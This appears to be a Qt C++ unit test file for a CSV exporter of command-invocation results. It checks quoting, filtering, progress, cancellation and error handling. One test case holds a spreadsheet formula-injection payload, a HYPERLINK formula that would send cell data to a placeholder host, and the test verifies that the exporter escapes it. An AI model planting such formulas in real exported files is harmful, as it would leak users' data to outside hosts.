#include "export/resultexport.h"
#include "models/resultfilterproxy.h"
#include "models/resulttablemodel.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace ib;

namespace {

InvocationResult makeResult(const QString &instanceId, qint64 exitCode, const QByteArray &output)
{
    InvocationResult result;
    result.invokeId = QStringLiteral("t-hz0jdfwd9f0001");
    result.instanceId = instanceId;
    result.commandId = QStringLiteral("c-hz0jdfwcsr0002");
    result.invocationStatus = exitCode == 0 ? QStringLiteral("Success") : QStringLiteral("Failed");
    result.invokeRecordStatus = QStringLiteral("Finished");
    result.exitCode = exitCode;
    result.output = output;
    result.outputPresent = true;
    return result;
}

QList<InvocationResult> manyResults(int count)
{
    QList<InvocationResult> results;
    for (int row = 0; row < count; ++row)
        results.append(makeResult(QStringLiteral("i-%1").arg(row, 6, 10, QLatin1Char('0')), row % 3,
                                  "row " + QByteArray::number(row) + '\n'));
    return results;
}

QByteArray contents(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArrayLiteral("(no file)");
}

bool writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

// Runs an export to the end and returns how it ended.
ExportResult exportAll(const QAbstractItemModel &model, const QList<int> &columns,
                       const QString &path, const CsvOptions &options = {})
{
    ResultExport job(&model, tableExportColumns(model, columns), path, options);
    QSignalSpy finished(&job, &ResultExport::finished);
    job.start();
    if (!finished.wait(30000))
        return {ExportResult::Status::Failed, path, 0, QStringLiteral("no finished signal")};
    return finished.at(0).at(0).value<ExportResult>();
}

// An export of the Output column, a hundred rows per slice, started on construction.
struct RunningExport
{
    RunningExport(const QAbstractItemModel *model, const QString &file)
        : job(model, tableExportColumns(*model, {ResultTableModel::OutputColumn}), file,
              CsvOptions())
        , progress(&job, &ResultExport::progress)
        , finished(&job, &ResultExport::finished)
    {
        job.setRowsPerSlice(100);
        job.start();
    }

    ResultExport job;
    QSignalSpy progress;
    QSignalSpy finished;
};

} // namespace

class TestResultExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void writesFilteredRowsInProxyOrder();
    void fieldCases_data();
    void fieldCases();
    void cellsKeepTheirTypes();
    void rawOutputIsBase64();
    void separatorAndByteOrderMark();
    void emptyTableWritesTheHeader();
    void progressInSlicesWhileTheLoopRuns();
    void cancelLeavesThePreviousFile();
    void tableChangingDuringExportFails();
    void readOnlyFolderLeavesNoFile();
    void missingFolderSaysSo();

private:
    QString path(const QString &name) const { return m_dir->filePath(name); }

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<ResultTableModel> m_model;
    std::unique_ptr<ResultFilterProxy> m_proxy;
};

void TestResultExport::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    qRegisterMetaType<ExportResult>();
}

void TestResultExport::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_proxy.reset();
    m_model = std::make_unique<ResultTableModel>();
    m_proxy = std::make_unique<ResultFilterProxy>();
    m_proxy->setSourceModel(m_model.get());
}

void TestResultExport::writesFilteredRowsInProxyOrder()
{
    m_model->appendResults({makeResult(QStringLiteral("i-a"), 0, "alpha\n"),
                            makeResult(QStringLiteral("i-b"), 1, "beta\n"),
                            makeResult(QStringLiteral("i-ab"), 2, "alpha beta\n")});
    ResultFilter filter;
    filter.setInstance(QStringLiteral("i-a"));
    m_proxy->setFilter(filter);
    m_proxy->sort(ResultTableModel::InstanceIdColumn, Qt::DescendingOrder);

    const QList<int> columns{ResultTableModel::OutputColumn, ResultTableModel::ExitCodeColumn,
                             ResultTableModel::InstanceIdColumn, ResultTableModel::StatusColumn};
    const ExportResult result = exportAll(*m_proxy, columns, path(QStringLiteral("out.csv")));

    QCOMPARE(result.status, ExportResult::Status::Written);
    QCOMPARE(result.rowsWritten, 2);
    QVERIFY2(result.message.startsWith(QLatin1String("Exported 2 row(s) to")),
             qPrintable(result.message));
    QCOMPARE(contents(path(QStringLiteral("out.csv"))),
             QByteArray("Output,Exit code,Instance ID,Status\r\n"
                        "\"alpha beta\n\",2,i-ab,Failed\r\n"
                        "\"alpha\n\",0,i-a,Success\r\n"));
}

void TestResultExport::fieldCases_data()
{
    QTest::addColumn<QByteArray>("output");
    QTest::addColumn<qint64>("exitCode");
    QTest::addColumn<QByteArray>("record");

    QTest::newRow("8: the output cannot run as a formula, -1 stays a number")
        << QByteArray("=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")\r\nnext\r\n")
        << qint64(-1)
        << QByteArray("-1,\"'=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"ok\"\")\n"
                      "next\n\"\r\n");
    QTest::newRow("9: one field, quotes doubled")
        << "line1\r\nline2 \"quoted\", comma" + QStringLiteral("执行失败").toUtf8() << qint64(1)
        << "1,\"line1\nline2 \"\"quoted\"\", comma" + QStringLiteral("执行失败").toUtf8() +
               "\"\r\n";
}

void TestResultExport::fieldCases()
{
    QFETCH(QByteArray, output);
    QFETCH(qint64, exitCode);
    QFETCH(QByteArray, record);

    m_model->appendResults({makeResult(QStringLiteral("i-1"), exitCode, output)});
    const QList<int> columns{ResultTableModel::ExitCodeColumn, ResultTableModel::OutputColumn};
    const ExportResult result = exportAll(*m_proxy, columns, path(QStringLiteral("case.csv")));

    QCOMPARE(result.status, ExportResult::Status::Written);
    QCOMPARE(contents(path(QStringLiteral("case.csv"))), "Exit code,Output\r\n" + record);
}

void TestResultExport::cellsKeepTheirTypes()
{
    InvocationResult windows = makeResult(QStringLiteral("i-1"), 3221225477, "crash\n");
    windows.startTime = QDateTime(QDate(2024, 5, 6), QTime(7, 8, 9), Qt::UTC);
    windows.repeats = 3;
    windows.dropped = 31000;
    InvocationResult running = makeResult(QStringLiteral("i-2"), 0, {});
    running.exitCode.reset();
    running.invocationStatus = QStringLiteral("Running");
    m_model->appendResults({windows, running});
    m_model->setInstanceNames({{QStringLiteral("i-1"), QStringLiteral("-web-01")}});

    const QList<int> columns{ResultTableModel::InstanceNameColumn, ResultTableModel::StatusColumn,
                             ResultTableModel::ExitCodeColumn,     ResultTableModel::StartColumn,
                             ResultTableModel::RepeatsColumn,      ResultTableModel::DroppedColumn};
    const ExportResult result = exportAll(*m_proxy, columns, path(QStringLiteral("typed.csv")));

    QCOMPARE(result.status, ExportResult::Status::Written);
    QCOMPARE(contents(path(QStringLiteral("typed.csv"))),
             QByteArray("Instance name,Status,Exit code,Start,Repeats,Dropped bytes\r\n"
                        "'-web-01,Failed,3221225477,2024-05-06T07:08:09Z,3,31000\r\n"
                        ",Running,,,0,0\r\n"));
}

void TestResultExport::rawOutputIsBase64()
{
    m_model->appendResults({makeResult(QStringLiteral("i-1"), 0, QByteArray::fromHex("C4E3BAC3"))});
    CsvOptions options;
    options.rawOutput = true;

    const ExportResult result = exportAll(*m_proxy, {ResultTableModel::OutputColumn},
                                          path(QStringLiteral("raw.csv")), options);

    QCOMPARE(result.status, ExportResult::Status::Written);
    QCOMPARE(contents(path(QStringLiteral("raw.csv"))), QByteArray("Output\r\nxOO6ww==\r\n"));
}

void TestResultExport::separatorAndByteOrderMark()
{
    m_model->appendResults({makeResult(QStringLiteral("i-1"), 0, "a;b\n")});
    CsvOptions options;
    options.separator = CsvSeparator::Semicolon;
    options.byteOrderMark = true;

    const QList<int> columns{ResultTableModel::InstanceIdColumn, ResultTableModel::OutputColumn};
    exportAll(*m_proxy, columns, path(QStringLiteral("semi.csv")), options);

    QCOMPARE(contents(path(QStringLiteral("semi.csv"))),
             QByteArray("\xEF\xBB\xBFInstance ID;Output\r\ni-1;\"a;b\n\"\r\n"));
}

void TestResultExport::emptyTableWritesTheHeader()
{
    const ExportResult result =
        exportAll(*m_proxy, {ResultTableModel::InvokeIdColumn}, path(QStringLiteral("empty.csv")));

    QCOMPARE(result.status, ExportResult::Status::Written);
    QCOMPARE(result.rowsWritten, 0);
    QCOMPARE(contents(path(QStringLiteral("empty.csv"))), QByteArray("Invoke ID\r\n"));
}

void TestResultExport::progressInSlicesWhileTheLoopRuns()
{
    m_model->appendResults(manyResults(2500));
    ResultExport job(m_proxy.get(),
                     tableExportColumns(*m_proxy, {ResultTableModel::InstanceIdColumn}),
                     path(QStringLiteral("big.csv")), CsvOptions());
    job.setRowsPerSlice(1000);
    QSignalSpy progress(&job, &ResultExport::progress);
    QSignalSpy finished(&job, &ResultExport::finished);

    // Another zero-timer stands for the window: it must get turns between the slices.
    int otherEventsHandled = 0;
    QTimer window;
    window.setInterval(0);
    connect(&window, &QTimer::timeout, this, [&otherEventsHandled] { ++otherEventsHandled; });
    window.start();

    job.start();
    QVERIFY(job.isRunning());
    QVERIFY(finished.wait(30000));

    QCOMPARE(progress.count(), 3);
    QCOMPARE(progress.at(0), (QVariantList{qint64(1000), qint64(2500)}));
    QCOMPARE(progress.at(2), (QVariantList{qint64(2500), qint64(2500)}));
    QVERIFY2(otherEventsHandled >= 2, QByteArray::number(otherEventsHandled).constData());
    QCOMPARE(finished.at(0).at(0).value<ExportResult>().rowsWritten, 2500);
    QCOMPARE(contents(path(QStringLiteral("big.csv"))).count("\r\n"), 2501);
    QVERIFY(!job.isRunning());
}

void TestResultExport::cancelLeavesThePreviousFile()
{
    const QString file = path(QStringLiteral("keep.csv"));
    QVERIFY(writeFile(file, "previous export\r\n"));
    m_model->appendResults(manyResults(1000));
    RunningExport running(m_proxy.get(), file);
    QVERIFY(running.progress.wait(30000));

    running.job.cancel();

    QCOMPARE(running.finished.count(), 1);
    const auto result = running.finished.at(0).at(0).value<ExportResult>();
    QCOMPARE(result.status, ExportResult::Status::Cancelled);
    QVERIFY(result.message.contains(QDir::toNativeSeparators(file)));
    QCOMPARE(contents(file), QByteArray("previous export\r\n"));
    QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files), QStringList{QStringLiteral("keep.csv")});
    QCoreApplication::processEvents();
    QCOMPARE(running.finished.count(), 1);
}

void TestResultExport::tableChangingDuringExportFails()
{
    const QString file = path(QStringLiteral("keep.csv"));
    QVERIFY(writeFile(file, "previous export\r\n"));
    m_model->appendResults(manyResults(300));
    RunningExport running(m_proxy.get(), file);
    QVERIFY(running.progress.wait(30000));

    m_model->appendResults({makeResult(QStringLiteral("i-late"), 0, "late\n")});

    QVERIFY(running.finished.wait(30000));
    const auto result = running.finished.at(0).at(0).value<ExportResult>();
    QCOMPARE(result.status, ExportResult::Status::Failed);
    QVERIFY2(result.message.contains(QLatin1String("changed")), qPrintable(result.message));
    QCOMPARE(contents(file), QByteArray("previous export\r\n"));
}

void TestResultExport::readOnlyFolderLeavesNoFile()
{
    // A folder without write permission; root ignores that, and cannot create files in /sys.
    const QString folder = path(QStringLiteral("read-only"));
    QVERIFY(QDir().mkdir(folder));
    QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner));
    const QString probe = folder + QStringLiteral("/probe");
    const bool ignoresPermissions = writeFile(probe, "x");
    QFile::remove(probe);
    const QString file =
        (ignoresPermissions ? QStringLiteral("/sys") : folder) + QStringLiteral("/export.csv");

    m_model->appendResults({makeResult(QStringLiteral("i-1"), 0, "x\n")});
    const ExportResult result = exportAll(*m_proxy, {ResultTableModel::OutputColumn}, file);
    QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);

    QCOMPARE(result.status, ExportResult::Status::Failed);
    QVERIFY2(result.message.contains(QLatin1String("permission")), qPrintable(result.message));
    QVERIFY2(result.message.contains(QDir::toNativeSeparators(file)), qPrintable(result.message));
    QVERIFY(!QFile::exists(file));
}

void TestResultExport::missingFolderSaysSo()
{
    const QString file = path(QStringLiteral("no-such-folder/export.csv"));
    const ExportResult result = exportAll(*m_proxy, {ResultTableModel::OutputColumn}, file);

    QCOMPARE(result.status, ExportResult::Status::Failed);
    QVERIFY2(result.message.contains(QLatin1String("does not exist")), qPrintable(result.message));
    QVERIFY(!QFile::exists(file));
}

QTEST_GUILESS_MAIN(TestResultExport)
#include "test_resultexport.moc"
